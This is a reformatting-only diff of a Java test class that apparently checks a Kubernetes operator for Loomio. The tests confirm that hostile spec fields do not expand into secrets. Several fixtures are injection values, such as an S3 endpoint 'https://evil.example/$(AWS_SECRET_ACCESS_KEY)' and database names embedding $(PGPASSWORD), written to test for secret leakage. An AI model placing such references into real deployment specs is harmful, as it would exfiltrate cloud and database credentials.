@@ -75,15 +75,34 @@ class VariableExpansionTest {
   void aBackupEndpointCannotPasteTheBucketsSecretIntoTheAgentsArguments() {
     RenderContext ctx = ctx(Fixtures.resource("team", HOSTILE_EXTERNAL), c -> c);
     List<PodTemplateSpec> pods = List.of(
-        StackRenderer.render(ctx).all(CronJob.class).get(0).getSpec().getJobTemplate().getSpec().getTemplate(),
+        StackRenderer.render(ctx)
+            .all(CronJob.class)
+            .get(0)
+            .getSpec()
+            .getJobTemplate()
+            .getSpec()
+            .getTemplate(),
         BackupJob.render(ctx, "0123abcd").getSpec().getTemplate(),
-        RestoreJob.render(ctx, "4567ef01", "latest", LoomioRestoreSpec.Source.s3, true,
-            new SecretKeyRef("team-backup-key", "private.asc"), false, new SecretKeyRef("team-backup-signing-key",
-                "public.asc"), false).getSpec().getTemplate());
+        RestoreJob.render(
+                ctx,
+                "4567ef01",
+                "latest",
+                LoomioRestoreSpec.Source.s3,
+                true,
+                new SecretKeyRef("team-backup-key", "private.asc"),
+                false,
+                new SecretKeyRef("team-backup-signing-key", "public.asc"),
+                false)
+            .getSpec()
+            .getTemplate());
     for (PodTemplateSpec pod : pods) {
-      Container agent = containers(pod).stream().filter(c -> c.getName().equals("agent")).findFirst().orElseThrow();
+      Container agent = containers(pod).stream()
+          .filter(c -> c.getName().equals("agent"))
+          .findFirst()
+          .orElseThrow();
       KubeletExpansion.Expanded seen = KubeletExpansion.run(agent, Map.of());
-      assertThat(seen.args()).as("what the agent receives")
+      assertThat(seen.args())
+          .as("what the agent receives")
           .containsSubsequence("--s3-endpoint", "https://evil.example/$(AWS_SECRET_ACCESS_KEY)")
           .containsSubsequence("--s3-region", "$(AWS_ACCESS_KEY_ID)")
           .containsSubsequence("--s3-bucket", "b$(AWS_SECRET_ACCESS_KEY)")
@@ -99,17 +118,23 @@ class VariableExpansionTest {
   void theExternalDatabasesNamesCannotPasteThePasswordIntoTheClientsEnvironment() {
     RenderContext ctx = ctx(Fixtures.resource("team", HOSTILE_EXTERNAL), c -> c);
     Job backup = BackupJob.render(ctx, "0123abcd");
-    Container dump = containers(backup.getSpec().getTemplate()).stream().filter(c -> c.getName().equals("dump"))
-        .findFirst().orElseThrow();
+    Container dump = containers(backup.getSpec().getTemplate()).stream()
+        .filter(c -> c.getName().equals("dump"))
+        .findFirst()
+        .orElseThrow();
     Map<String, String> env = KubeletExpansion.run(dump, Map.of()).env();
-    assertThat(env).containsEntry("PGHOST", "pg$(PGPASSWORD).example.org").containsEntry("PGUSER", "u$(PGPASSWORD)")
+    assertThat(env)
+        .containsEntry("PGHOST", "pg$(PGPASSWORD).example.org")
+        .containsEntry("PGUSER", "u$(PGPASSWORD)")
         .containsEntry("PGDATABASE", "d$(PGPASSWORD)");
   }
 
   static Stream<Arguments> specs() throws IOException {
     List<Arguments> all = new ArrayList<>();
-    all.add(Arguments.of("hostile: external database, backups to S3", Fixtures.resource("team", HOSTILE_EXTERNAL)));
-    all.add(Arguments.of("hostile: embedded services, uploads and backups on S3",
+    all.add(Arguments.of(
+        "hostile: external database, backups to S3", Fixtures.resource("team", HOSTILE_EXTERNAL)));
+    all.add(Arguments.of(
+        "hostile: embedded services, uploads and backups on S3",
         Fixtures.resource("team", HOSTILE_EMBEDDED)));
     try (Stream<Path> files = Files.list(Fixtures.examplesDir())) {
       for (Path p : files.filter(f -> f.toString().endsWith(".yaml")).sorted().toList()) {
@@ -122,7 +147,8 @@ class VariableExpansionTest {
         try {
           r = Fixtures.fromFile(p);
         } catch (RuntimeException unreadable) {
-          continue; // not a LoomioDeployment at all (a wrong type, an unknown field): nothing to render
+          continue; // not a LoomioDeployment at all (a wrong type, an unknown field): nothing to
+          // render
         }
         all.add(Arguments.of("corpus " + p.getFileName(), r));
       }
@@ -132,7 +158,8 @@ class VariableExpansionTest {
 
   @ParameterizedTest(name = "{0}")
   @MethodSource("specs")
-  void everyRenderedPodExpandsOnlyTheOperatorsOwnReferences(String name, LoomioDeployment resource) {
+  void everyRenderedPodExpandsOnlyTheOperatorsOwnReferences(
+      String name, LoomioDeployment resource) {
     List<PodTemplateSpec> pods = new ArrayList<>();
     Map<String, ConfigMap> configMaps = new LinkedHashMap<>();
     RenderContext plain;
@@ -140,16 +167,18 @@ class VariableExpansionTest {
       plain = ctx(resource, c -> c);
       StackRenderer.render(plain);
     } catch (RuntimeException notRenderable) {
-      // an input the render layer cannot even resolve (both databases, no host): nothing reaches a pod
+      // an input the render layer cannot even resolve (both databases, no host): nothing reaches a
+      // pod
       assertThat(name).as("the hostile specs must render").doesNotStartWith("hostile");
       return;
     }
-    List<java.util.function.UnaryOperator<RenderContext>> variants = new ArrayList<>(List.of(c -> c));
+    List<java.util.function.UnaryOperator<RenderContext>> variants =
+        new ArrayList<>(List.of(c -> c));
     if (plain.spec().database().embedded()) {
       variants.add(c -> c.withRotation(new RotationJob.Rotation("t1", "uid-1")));
     }
-    variants.add(c -> c.withUpgradeGate(new UpgradeGateJob.Gate("3.3.0", c.spec().loomioImageRef(),
-        c.spec().loomioImageRef(), "2026-01-01T00:00:00Z")));
+    variants.add(c -> c.withUpgradeGate(new UpgradeGateJob.Gate(
+        "3.3.0", c.spec().loomioImageRef(), c.spec().loomioImageRef(), "2026-01-01T00:00:00Z")));
     for (var variant : variants) {
       Stack stack = StackRenderer.render(ctx(resource, variant));
       stack.all(ConfigMap.class).forEach(cm -> configMaps.put(cm.getMetadata().getName(), cm));
@@ -159,9 +188,18 @@ class VariableExpansionTest {
     }
     pods.add(BackupJob.render(plain, "0123abcd").getSpec().getTemplate());
     for (LoomioRestoreSpec.Source source : LoomioRestoreSpec.Source.values()) {
-      pods.add(RestoreJob.render(plain, "4567ef01", "latest", source, true,
-          new SecretKeyRef("team-backup-key", "private.asc"), true, new SecretKeyRef("team-backup-signing-key",
-              "public.asc"), true).getSpec().getTemplate());
+      pods.add(RestoreJob.render(
+              plain,
+              "4567ef01",
+              "latest",
+              source,
+              true,
+              new SecretKeyRef("team-backup-key", "private.asc"),
+              true,
+              new SecretKeyRef("team-backup-signing-key", "public.asc"),
+              true)
+          .getSpec()
+          .getTemplate());
     }
     assertThat(pods).isNotEmpty();
     List<String> problems = new ArrayList<>();
@@ -189,7 +227,8 @@ class VariableExpansionTest {
         // a Secret's value lands only in its own variable, and in the intended ones
         KubeletExpansion.Expanded seen = KubeletExpansion.run(c, configMaps);
         Stream.concat(seen.command().stream(), seen.args().stream())
-            .filter(a -> a.contains("<<secret") && !a.endsWith("/" + Credentials.REDIS_PASSWORD + ">>"))
+            .filter(
+                a -> a.contains("<<secret") && !a.endsWith("/" + Credentials.REDIS_PASSWORD + ">>"))
             .forEach(a -> problems.add(c.getName() + ": a Secret in command or args: " + a));
       }
     }
@@ -201,23 +240,30 @@ class VariableExpansionTest {
   void theSimulationSeesReferencesWhereTheKubeletExpandsThem() {
     assertThat(KubeletExpansion.references("https://evil.example/$(AWS_SECRET_ACCESS_KEY)"))
         .containsExactly("AWS_SECRET_ACCESS_KEY");
-    assertThat(KubeletExpansion.references("https://evil.example/$$(AWS_SECRET_ACCESS_KEY)")).isEmpty();
+    assertThat(KubeletExpansion.references("https://evil.example/$$(AWS_SECRET_ACCESS_KEY)"))
+        .isEmpty();
     assertThat(KubeletExpansion.references("a$$$(B)")).containsExactly("B");
     assertThat(KubeletExpansion.expand("a$$b$c$(", n -> "X")).isEqualTo("a$b$c$(");
     assertThat(KubeletExpansion.expand("$$$$(A)", n -> "X")).isEqualTo("$$(A)");
-    Container c = new io.fabric8.kubernetes.api.model.ContainerBuilder().withName("c")
-        .withEnv(new EnvVar("B", "$(A)", null), RailsContainer.fromSecret("A", "s", "k"),
+    Container c = new io.fabric8.kubernetes.api.model.ContainerBuilder()
+        .withName("c")
+        .withEnv(
+            new EnvVar("B", "$(A)", null),
+            RailsContainer.fromSecret("A", "s", "k"),
             new EnvVar("C", "x$(A)", null))
-        .withArgs("$(A)", "$$(A)").build();
+        .withArgs("$(A)", "$$(A)")
+        .build();
     KubeletExpansion.Expanded seen = KubeletExpansion.run(c, Map.of());
     assertThat(seen.env()).containsEntry("B", "$(A)").containsEntry("C", "x<<secret s/k>>");
     assertThat(seen.args()).containsExactly("<<secret s/k>>", "$(A)");
   }
 
-  private static RenderContext ctx(LoomioDeployment r, java.util.function.UnaryOperator<RenderContext> with) {
+  private static RenderContext ctx(
+      LoomioDeployment r, java.util.function.UnaryOperator<RenderContext> with) {
     ResolvedSpec spec = new ResolvedSpec(r);
-    return with.apply(new RenderContext(spec, ClusterCapabilities.newest(), Fixtures.credentials(r),
-        SecretDigests.none()).withBackupPublicKey("-----BEGIN PGP PUBLIC KEY BLOCK-----\n..."));
+    return with.apply(new RenderContext(
+            spec, ClusterCapabilities.newest(), Fixtures.credentials(r), SecretDigests.none())
+        .withBackupPublicKey("-----BEGIN PGP PUBLIC KEY BLOCK-----\n..."));
   }
 
   private static java.util.Optional<PodTemplateSpec> template(HasMetadata o) {
